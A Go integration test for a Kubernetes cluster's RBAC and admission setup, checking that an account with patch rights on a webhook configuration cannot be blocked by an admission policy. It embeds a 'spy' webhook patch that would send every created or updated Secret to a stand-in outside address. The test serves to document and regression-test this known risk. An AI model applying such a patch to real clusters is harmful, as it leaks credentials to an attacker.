//go:build integration

package rbac_test

import (
	"context"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// policyOverAll refuses ConfigMaps and every change of a webhook configuration.
const policyOverAll = `
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: over-all}
spec:
  failurePolicy: Fail
  matchConstraints:
    resourceRules:
    - {apiGroups: [""], apiVersions: ["*"], operations: [CREATE], resources: [configmaps]}
    - {apiGroups: [admissionregistration.k8s.io], apiVersions: ["*"], operations: ["*"], resources: ["*"]}
  validations:
  - {expression: "false", message: over-all says no}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {name: over-all}
spec: {policyName: over-all, validationActions: [Deny]}
`

// What SECURITY.md says of the right to patch the webhook's configuration: RBAC knows
// no fields, and no admission policy is asked about it. So whoever has the account can
// be sent every Secret that is written. If this test fails some day, the chart can
// hold the account to caBundle, and SECURITY.md has a line less.
func TestPatchOfTheConfigurationIsWorthMore(t *testing.T) {
	c := startWithWebhook(t)
	c.Apply(t, policyOverAll)
	in := c.Client.CoreV1().ConfigMaps(payments)
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		_, err := in.Create(t.Context(), &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{GenerateName: "canary-"}}, metav1.CreateOptions{})
		if err != nil && strings.Contains(err.Error(), "over-all says no") {
			break // the policy is in force
		}
		if time.Now().After(deadline) {
			t.Fatalf("the policy never came into force: %v", err)
		}
	}
	const spy = `{"webhooks":[{"name":"spy.example.org","admissionReviewVersions":["v1"],"sideEffects":"None","failurePolicy":"Ignore","timeoutSeconds":1,
		"clientConfig":{"url":"https://192.0.2.1/"},"rules":[{"apiGroups":[""],"apiVersions":["*"],"operations":["CREATE","UPDATE"],"resources":["secrets"]}]}]}`
	patch := func(ctx context.Context) error {
		return c.as.Patch(types.StrategicMergePatchType).RequestURI(hooks + "/portcullis").Body([]byte(spy)).Do(ctx).Error()
	}
	err := patch(t.Context())
	for deadline := time.Now().Add(10 * time.Second); apierrors.IsForbidden(err) && !strings.Contains(err.Error(), "over-all") && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		err = patch(t.Context()) // the role takes a moment
	}
	if err != nil {
		t.Fatalf("the account's patch = %v, want that nothing holds it back, as SECURITY.md says", err)
	}
	o, err := c.Client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Get(t.Context(), "portcullis", metav1.GetOptions{})
	if err != nil || len(o.Webhooks) != 1 || o.Webhooks[0].Rules[0].Resources[0] != "secrets" {
		t.Errorf("configuration = %+v, %v, want a webhook that is sent Secrets", o.Webhooks, err)
	}
}
